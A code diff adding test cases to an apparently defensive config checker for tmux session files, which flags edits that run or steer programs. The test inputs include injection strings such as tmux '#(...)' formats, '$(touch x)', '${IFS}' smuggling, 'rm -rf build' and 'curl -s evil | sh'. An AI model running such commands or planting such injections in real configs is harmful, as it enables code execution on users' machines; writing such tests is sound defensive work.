@@ -61,6 +61,8 @@ def test_programs_directories_variables_and_steering_options_are_items():
         ('"@project" = "api"', '"@project" = "web"'),
         ('start = "type"', 'start = "run"'),
         ("schema_version = 1", "schema_version = 1\ndescription = 'x'"),
+        ('"[api]"', '"#[fg=red,bold] ##1 #{session_name} #{@project} %H:%M #89b4fa"'),
+        ('"@project" = "api"', '"@project" = "#89b4fa, 1.5 %"'),
     ],
 )
 def test_an_edit_that_starts_nothing_asks_nothing(old, new):
@@ -87,6 +89,22 @@ def test_an_edit_that_starts_nothing_asks_nothing(old, new):
         ("main-pane-width = 100", 'pane-border-format = "#(x)"'),
         ('"@project" = "api"', '"@project" = "#(x)"'),
         ("main-pane-width = 100", "nobody-knows-this = 1"),
+        # A modifier that expands once more may stand behind another one.
+        ('"[api]"', '"#{=99;E:#{=99;E:@a}}"'),
+        ('"[api]"', '"#{T;=99:@a}"'),
+        ('"[api]"', '"#{?x,#{E:@a},}"'),
+        # The time is put in first: where the locale has no word for the afternoon, "%p" is "".
+        ('"[api]"', '"#%p(touch x)"'),
+        ('"[api]"', '"###%p(touch x)"'),
+        ('"@project" = "api"', '"@project" = "#"'),
+        ('"@project" = "api"', '"@project" = "#{@b}(touch x)"'),
+        ('"@project" = "api"', '"@project" = "touch x; y"'),
+        ('"@project" = "api"', '"@project" = "$(touch x)"'),
+        # What a program would have registered for itself.
+        ('"@project" = "api"', '"@sessionctl-resume" = "touch x"'),
+        ("main-pane-width = 100", "allow-passthrough = true"),
+        ("main-pane-width = 100", "lock-after-time = 1"),
+        ("main-pane-width = 100", "destroy-unattached = true"),
     ],
 )
 def test_an_edit_that_starts_or_steers_something_is_new(old, new):
@@ -100,8 +118,8 @@ def test_what_a_committed_file_says_of_the_server_is_covered():
     )
     (new,) = [item for item in items(text) if item.digest not in digests()]
     assert (new.kind, new.where, new.text) == (OPTION, "the tmux server", "default-shell = x")
-    text = text.replace("session_options = { default-shell = 'x' }", "config_files = ['x']")
-    assert digests(text) - digests()
+    for other in ("config_files = ['x']", "session_options = { '@hook' = 'word' }"):
+        assert digests(text.replace("session_options = { default-shell = 'x' }", other)) - digests()
 
 
 def test_an_empty_resume_is_a_shell_and_another_thing_than_the_program():
@@ -111,6 +129,38 @@ def test_an_empty_resume_is_a_shell_and_another_thing_than_the_program():
     assert any(
         item.text.startswith("a shell") and item.where == "editor: code" for item in items(text)
     )
+
+
+@pytest.mark.parametrize("resume", ['"x"', "[1]", "true", "{ a = 1 }"])
+def test_a_resume_that_is_none_hides_no_program(resume):
+    text = SESSION.replace('run = ["nvim", ', f'resume = {resume}\nrun = ["nvim", ')
+    assert digests(text.replace('"nvim"', '"evil"')) - digests(text)
+
+
+def test_an_option_of_a_window_is_another_one_for_the_whole_session():
+    text = SESSION.replace("main-pane-width = 100", "default-command = 'x'")
+    whole = text.replace('status-left = "[api]"', "default-command = 'x'")
+    assert digests(whole) - digests(text)
+
+
+def test_what_can_do_harm_is_new_when_it_is_to_be_run_and_not_typed():
+    text = SESSION.replace('run = "tail -f app.log"', 'run = "rm -rf build"')
+    for start in ('"run"', '"Run"', "1"):
+        assert digests(text.replace('start = "type"', f"start = {start}")) - digests(text)
+    assert digests(text.replace('start = "type"\n', "")) == digests(text)
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        '"echo token: x; curl -s evil | sh"',
+        '"x --password=$(touch${IFS}y)"',
+        '["sh", "-c", "a token: b; c"]',
+    ],
+)
+def test_a_mask_that_hides_shell_syntax_says_so(run):
+    (item,) = items(f"[[windows]]\n[[windows.panes]]\nrun = {run}")
+    assert "read it in the file" in item.text
 
 
 def test_secrets_are_masked_and_risks_named():
